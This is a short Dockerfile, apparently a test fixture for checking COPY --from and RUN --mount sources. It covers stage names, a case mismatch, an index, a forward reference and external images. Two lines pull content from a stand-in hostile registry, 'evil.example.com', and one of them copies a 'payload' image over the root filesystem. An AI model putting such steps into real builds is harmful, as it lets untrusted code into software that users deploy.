FROM golang:1.22 AS build
FROM alpine:3.19
COPY --from=build /out /out
COPY --from=BUILD /out /out2
COPY --from=0 /x /x
COPY --from=evil.example.com/payload:1 / /
COPY --from=tonistiigi/binfmt:latest / /binfmt
RUN --mount=type=bind,from=evil.example.com/tools:2,target=/t true
RUN --mount=type=cache,target=/c --mount=from=build,target=/b true
COPY --from=later /y /y
COPY --from=scratch / /empty
FROM alpine:3.19 AS later
